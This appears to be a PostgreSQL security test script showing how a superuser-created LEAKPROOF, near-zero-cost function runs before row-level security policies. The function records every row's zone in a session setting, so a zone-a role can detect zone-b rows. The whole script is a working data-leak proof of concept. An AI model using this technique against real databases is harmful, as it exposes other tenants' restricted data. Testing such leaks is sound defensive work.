-- A function that is marked LEAKPROOF is asked before the policies, with the rows of every zone.
--- finds definer on public.peek
--- patch as superuser
CREATE FUNCTION public.peek(zone text) RETURNS boolean
    LANGUAGE plpgsql LEAKPROOF COST 0.0001
    SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
    PERFORM set_config('corpus.seen',
        coalesce(current_setting('corpus.seen', true), '') || zone, true);
    RETURN true;
END
$$;
--- leaks as pawl_gateway in zone-a
SET LOCAL enable_indexscan = off;
SET LOCAL enable_bitmapscan = off;
SELECT FROM public.sessions WHERE public.peek(zone_id);
SELECT WHERE current_setting('corpus.seen') LIKE '%zone-b%';
